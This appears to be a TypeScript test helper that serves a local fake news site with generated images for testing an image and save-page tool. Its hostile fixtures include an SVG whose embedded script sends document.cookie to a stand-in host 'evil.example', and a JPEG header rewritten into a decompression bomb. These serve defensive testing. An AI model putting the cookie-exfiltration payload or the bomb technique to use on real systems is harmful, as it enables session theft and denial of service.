import fs from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { REPO } from './helpers.js';
import { startServer, type TestServer } from './net-server.js';

/**
 * A small news site for the image and save-page tests: the pages in tests/fixtures/net/ and
 * pictures made here with sharp (no binary blobs in the repository), including the hostile ones.
 */

export const FIXTURES = path.join(REPO, 'tests/fixtures/net');

/** A picture with some structure (gradients and stripes), so it compresses like a photo, not like a flat colour. */
export async function picture(width: number, height: number, seed: number, format: 'jpeg' | 'png' | 'webp' | 'gif' | 'avif' | 'tiff'): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3;
      raw[i] = (x * 255) / width + seed * 40;
      raw[i + 1] = (y * 255) / height + ((x >> 4) % 2) * 30;
      raw[i + 2] = ((x + y + seed * 17) % 64) * 4;
    }
  }
  const img = sharp(raw, { raw: { width, height, channels: 3 } });
  switch (format) {
    case 'jpeg':
      return img.jpeg({ quality: 80 }).toBuffer();
    case 'png':
      return img.png().toBuffer();
    case 'webp':
      return img.webp({ quality: 75 }).toBuffer();
    case 'gif':
      return img.gif().toBuffer();
    case 'avif':
      return img.avif({ quality: 50, effort: 0 }).toBuffer();
    case 'tiff':
      return img.tiff().toBuffer();
  }
}

/**
 * A real, small JPEG whose frame header is rewritten to declare 64250 × 64250 pixels: 4 billion
 * pixels, 12 GB once decoded, in a file of a few hundred bytes.
 */
export async function jpegHeaderBomb(): Promise<Buffer> {
  const buf = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#c33' } }).jpeg().toBuffer());
  for (let i = 2; i + 9 < buf.length; ) {
    if (buf[i] !== 0xff) break;
    const marker = buf[i + 1]!;
    const length = buf.readUInt16BE(i + 2);
    if (marker >= 0xc0 && marker <= 0xcf && marker !== 0xc4 && marker !== 0xc8 && marker !== 0xcc) {
      buf.writeUInt16BE(64250, i + 5); // height
      buf.writeUInt16BE(64250, i + 7); // width
      return buf;
    }
    i += 2 + length;
  }
  throw new Error('no frame header found in the generated JPEG');
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300">' +
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script><circle cx="200" cy="150" r="100" fill="red"/></svg>',
);

export const HTML_ERROR_PAGE = Buffer.from('<!DOCTYPE html>\n<html><head><title>Access denied</title></head><body><h1>403</h1><p>Hotlinking is not allowed.</p></body></html>');

export interface Route {
  type: string;
  body: Buffer | string;
  status?: number;
  headers?: Record<string, string>;
  /** Milliseconds to wait before answering. */
  delay?: number;
}

export interface Site {
  server: TestServer;
  routes: Map<string, Route>;
  images: Record<string, Buffer>;
  /** The most requests in flight at once. */
  peakInFlight(): number;
  requested(pathPrefix: string): number;
}

let cachedImages: Promise<Record<string, Buffer>> | null = null;

/** The site's pictures, made once per test file. */
export function siteImages(): Promise<Record<string, Buffer>> {
  cachedImages ??= (async () => ({
    ferry: await picture(1200, 800, 1, 'jpeg'),
    map400: await picture(400, 300, 2, 'png'),
    map800: await picture(800, 600, 2, 'png'),
    map2400: await picture(2400, 1800, 2, 'png'),
    stalls: await picture(640, 480, 3, 'webp'),
    beacon: await sharp({ create: { width: 1, height: 1, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } }).gif().toBuffer(),
    bomb: await jpegHeaderBomb(),
  }))();
  return cachedImages;
}

/** Starts the site on 127.0.0.1: pages under /news/, pictures under /media/ and /cdn/. */
export async function startSite(extra: Record<string, Route> = {}): Promise<Site> {
  const images = await siteImages();
  const routes = new Map<string, Route>();
  for (const file of fs.readdirSync(FIXTURES).filter((f) => f.endsWith('.html'))) {
    routes.set(`/news/${file}`, { type: 'text/html; charset=utf-8', body: fs.readFileSync(path.join(FIXTURES, file)) });
  }
  const add = (p: string, type: string, body: Buffer | string) => routes.set(p, { type, body });
  add('/media/ferry.jpg', 'image/jpeg', images.ferry!);
  add('/cdn/ferry-copy.jpg', 'image/jpeg', images.ferry!);
  add('/media/map-400.png', 'image/png', images.map400!);
  add('/media/map-800.png', 'image/png', images.map800!);
  add('/media/map-2400.png', 'image/png', images.map2400!);
  add('/media/stalls.webp', 'image/webp', images.stalls!);
  add('/media/beacon.gif', 'image/gif', images.beacon!);
  add('/track/pixel.gif', 'image/gif', images.beacon!);
  add('/media/bomb.jpg', 'image/jpeg', images.bomb!);
  add('/media/fake.jpg', 'image/jpeg', HTML_ERROR_PAGE);
  add('/media/drawing.svg', 'image/svg+xml', SVG_WITH_SCRIPT);
  for (const [p, r] of Object.entries(extra)) routes.set(p, r);

  let inFlight = 0;
  let peak = 0;
  const server = await startServer(async (req, res) => {
    inFlight += 1;
    peak = Math.max(peak, inFlight);
    try {
      const route = routes.get(new URL(req.url ?? '/', 'http://x').pathname);
      if (route?.delay) await new Promise((r) => setTimeout(r, route.delay));
      if (!route) {
        res.writeHead(404, { 'content-type': 'text/html' });
        res.end('<h1>Not found</h1>');
        return;
      }
      res.writeHead(route.status ?? 200, { 'content-type': route.type, ...route.headers });
      res.end(route.body);
    } finally {
      inFlight -= 1;
    }
  });
  return {
    server,
    routes,
    images,
    peakInFlight: () => peak,
    requested: (prefix) => server.requests.filter((r) => r.path.startsWith(prefix)).length,
  };
}
